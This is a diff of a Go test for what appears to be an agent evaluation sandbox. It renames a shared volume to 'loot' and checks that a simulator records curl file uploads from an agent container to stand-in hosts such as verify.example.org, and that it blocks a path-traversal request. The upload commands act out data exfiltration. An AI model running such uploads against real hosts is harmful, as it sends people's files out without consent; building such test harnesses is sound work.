@@ -94,8 +94,8 @@ endpoints = ["api"]
 backend = "files:8080"
 `,
 		"compose.yaml": fmt.Sprintf(`services:
-  default: {image: %[1]q, command: [sleep, infinity], init: true, networks: [external], volumes: ["work:/work"]}
-  scorer: {image: %[1]q, command: [sleep, infinity], init: true, network_mode: none, volumes: ["work:/work:ro", "events:/events:ro"]}
+  default: {image: %[1]q, command: [sleep, infinity], init: true, networks: [external], volumes: ["loot:/loot"]}
+  scorer: {image: %[1]q, command: [sleep, infinity], init: true, network_mode: none, volumes: ["loot:/loot:ro", "events:/events:ro"]}
   files:
     image: %[1]q
     command: [python3, /program.py, "files.example.com,verify.example.org"]
@@ -105,7 +105,7 @@ backend = "files:8080"
     healthcheck: {test: [CMD, bash, -c, "exec 3<>/dev/tcp/127.0.0.1/8080"], interval: 1s, retries: 60}
 networks:
   external: {driver: bridge}
-volumes: {work: {}, events: {}}
+volumes: {loot: {}, events: {}}
 `, debian),
 		"program.py": program,
 	})
@@ -113,7 +113,7 @@ volumes: {work: {}, events: {}}
 	up := b.up(dir, id)
 	agent, scorer := up.container(t, "default"), up.container(t, "scorer")
 	large := largeUpload(t)
-	b.exec(agent, "bash", "-c", "printf %s tiny >/work/small && truncate -s "+fmt.Sprint(large)+" /work/large")
+	b.exec(agent, "bash", "-c", "printf %s tiny >/loot/small && truncate -s "+fmt.Sprint(large)+" /loot/large")
 
 	type upload struct {
 		file, url string
@@ -137,20 +137,20 @@ volumes: {work: {}, events: {}}
 		upload{"large", "https://verify.example.org/api/large", []string{"--http1.1", "-H", "Transfer-Encoding: chunked"}})
 	sums := map[string]string{}
 	for _, file := range []string{"small", "large"} {
-		sums[file] = strings.Fields(b.exec(scorer, "sha256sum", "/work/"+file))[0] // over the volume both have
+		sums[file] = strings.Fields(b.exec(scorer, "sha256sum", "/loot/"+file))[0] // over the volume both have
 	}
 	sizes := map[string]int64{"small": 4, "large": large}
 	for _, u := range uploads {
-		argv := append([]string{"curl", "-sS", "--fail-with-body", "--path-as-is", "-F", "file=@/work/" + u.file, u.url}, u.args...)
+		argv := append([]string{"curl", "-sS", "--fail-with-body", "--path-as-is", "-F", "file=@/loot/" + u.file, u.url}, u.args...)
 		var got event
 		if err := json.Unmarshal([]byte(b.exec(agent, argv...)), &got); err != nil || got.Via != "simulator" || got.Size != sizes[u.file] || got.SHA256 != sums[u.file] {
 			t.Errorf("%q: %+v, %v", argv, got, err)
 		}
 	}
-	if out, err := exec.Command("docker", "exec", agent, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--path-as-is", "-F", "file=@/work/small", "https://verify.example.org/api/..").Output(); err != nil || string(out) != "404" {
+	if out, err := exec.Command("docker", "exec", agent, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--path-as-is", "-F", "file=@/loot/small", "https://verify.example.org/api/..").Output(); err != nil || string(out) != "404" {
 		t.Errorf("a path that leads out of its prefix: %s, %v", out, err)
 	}
-	if direct := b.exec(agent, "curl", "-sS", "-F", "file=@/work/small", "http://files:8080/api/direct"); !strings.Contains(direct, `"via": "direct"`) {
+	if direct := b.exec(agent, "curl", "-sS", "-F", "file=@/loot/small", "http://files:8080/api/direct"); !strings.Contains(direct, `"via": "direct"`) {
 		t.Errorf("posted directly: %s", direct)
 	}
 
